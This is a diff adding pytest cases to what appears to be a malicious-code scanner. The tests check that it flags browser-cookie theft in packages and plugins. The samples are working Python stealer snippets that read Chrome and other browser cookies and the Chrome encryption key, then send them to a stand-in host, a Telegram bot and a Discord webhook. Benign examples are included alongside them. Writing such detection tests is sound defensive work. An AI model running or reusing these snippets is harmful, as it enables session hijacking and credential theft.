@@ -454,3 +454,112 @@ def test_the_prefilter_keeps_a_relayed_shell(
 def test_a_shell_given_a_script_or_served_locally_is_no_reverse_shell(source: str) -> None:
     for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
         assert "CPL-THR-008" not in danger(source, mode=mode)
+
+
+# -- the browsers' cookies read by a library and sent (branch recall14) -----------------------
+
+_COOKIES_SENT = [
+    # the jar's cookies posted
+    """
+    import browser_cookie3, requests
+    cj = browser_cookie3.chrome()
+    requests.post("https://k.recall14.example/c", data=str([(c.name, c.value) for c in cj]))
+    """,
+    # every browser's, as JSON through urllib
+    """
+    import json, urllib.request
+    import browser_cookie3 as bc
+    body = json.dumps([[c.domain, c.name, c.value] for c in bc.load()]).encode()
+    urllib.request.urlopen("https://k.recall14.example/j", data=body)
+    """,
+    # one cookie found by a loop over two browsers' loaders, sent to a Telegram bot
+    """
+    import requests
+    from browser_cookie3 import chrome, edge
+    for loader in (chrome, edge):
+        for c in loader(domain_name="roblox.com"):
+            if c.name == ".ROBLOSECURITY":
+                bot = "https://api.telegram.org/bot1:X/sendMessage"
+                requests.get(bot, params={"text": c.value})
+    """,
+    # rookiepy's list posted to a Discord webhook
+    """
+    import rookiepy, requests
+    hook = "https://discord.com/api/webhooks/1/DEFANGED"
+    requests.post(hook, json={"content": str(rookiepy.load())})
+    """,
+    # a dict made from a jar, handed as cookies to another host: requests sends a dict anywhere
+    """
+    import browser_cookie3, requests
+    jar = browser_cookie3.chrome()
+    requests.get("https://k.recall14.example/", cookies={c.name: c.value for c in jar})
+    """,
+    # another site's cookies read by pycookiecheat, handed as cookies to this host
+    """
+    import requests
+    from pycookiecheat import chrome_cookies
+    requests.get("https://k.recall14.example/", cookies=chrome_cookies("https://bank.example"))
+    """,
+]
+
+
+@pytest.mark.parametrize("source", _COOKIES_SENT)
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_the_browsers_cookies_sent_anywhere_are_stolen(source: str, mode: ScanMode) -> None:
+    assert "CPL-THR-007" in danger(source, mode=mode)
+
+
+@pytest.mark.parametrize("source", _COOKIES_SENT)
+def test_the_prefilter_sends_a_cookie_reader_to_the_rules(
+    source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-007")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the libraries' documented use: the jar handed to an HTTP client, which sends each
+        # cookie only to its own site
+        """
+        import browser_cookie3, requests
+        cj = browser_cookie3.chrome(domain_name="example.org")
+        print(requests.get("https://example.org/feed", cookies=cj).text)
+        """,
+        """
+        import browser_cookie3, requests
+        s = requests.Session()
+        s.cookies.update(browser_cookie3.firefox(domain_name=".youtube.com"))
+        s.get("https://www.youtube.com/feed")
+        """,
+        """
+        import browser_cookie3, urllib.request
+        jar = urllib.request.HTTPCookieProcessor(browser_cookie3.load())
+        urllib.request.build_opener(jar).open("https://example.org/feed").read()
+        """,
+        # the cookies of the URL asked, sent to it
+        """
+        import requests
+        from pycookiecheat import chrome_cookies
+        url = "https://example.org/private"
+        requests.get(url, cookies=chrome_cookies(url))
+        """,
+    ],
+)
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_cookies_handed_to_their_own_site_are_not_stolen(source: str, mode: ScanMode) -> None:
+    assert "CPL-THR-007" not in danger(source, mode=mode)
+
+
+def test_chromes_cookie_database_and_key_read_and_posted_are_a_stealer() -> None:
+    # already found by the credential-store indicators (CPL-THR-005): kept beside the
+    # library spellings above as the same theft without a library
+    source = """
+    import json, os, sqlite3, requests
+    root = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
+    key = json.load(open(os.path.join(root, "Local State")))["os_crypt"]["encrypted_key"]
+    rows = sqlite3.connect(os.path.join(root, "Default", "Network", "Cookies")).execute(
+        "SELECT host_key, name, encrypted_value FROM cookies").fetchall()
+    requests.post("https://k.recall14.example/", json={"k": key, "r": str(rows)})
+    """
+    assert "CPL-THR-005" in danger(source)
